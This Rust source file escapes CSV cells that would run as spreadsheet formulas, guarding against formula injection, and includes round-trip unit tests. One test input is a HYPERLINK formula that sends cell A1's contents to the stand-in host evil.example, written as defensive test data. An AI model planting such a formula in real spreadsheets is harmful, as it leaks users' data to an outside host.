//! The guard against formula injection in CSV files (OWASP "CSV injection"): a cell that a
//! spreadsheet would run as a formula is written with a leading apostrophe, which Excel and
//! LibreOffice read as "this is text", and the atlas's own import takes it off again, so data
//! written and read back is unchanged.

/// What a spreadsheet takes as the start of a formula (or, for a tab or a carriage return, what
/// it may strip to find one).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text`, after any apostrophes it starts with, starts as a formula would.
fn formula_after_apostrophes(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// `text` as a CSV cell a spreadsheet shows as text: an apostrophe before a cell that would
/// start a formula, and before one that starts with apostrophes and then a formula, so that
/// [`unescape_formula`] gives back exactly `text`.
pub fn escape_formula(text: &str) -> std::borrow::Cow<'_, str> {
    if formula_after_apostrophes(text) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// A CSV cell read back: the apostrophe [`escape_formula`] put before a formula is taken off.
/// A cell that starts with an apostrophe and no formula after it is left as it is.
pub fn unescape_formula(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_after_apostrophes(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_formula_gets_an_apostrophe_and_loses_it_when_read_back() {
        for text in [
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1",
            "-2",
            "@SUM(A1)",
            "\tx",
            "\r=1",
            "'=1",
            "''+1",
        ] {
            let escaped = escape_formula(text);
            assert!(escaped.starts_with('\''), "{text:?} → {escaped:?}");
            assert_eq!(unescape_formula(&escaped), text);
        }
    }

    #[test]
    fn plain_text_and_a_lone_apostrophe_are_left_alone() {
        for text in ["Norway", "", "'quoted'", "O'Brien", "1-2", "a=b"] {
            assert_eq!(escape_formula(text), text);
            assert_eq!(unescape_formula(text), text);
        }
    }
}
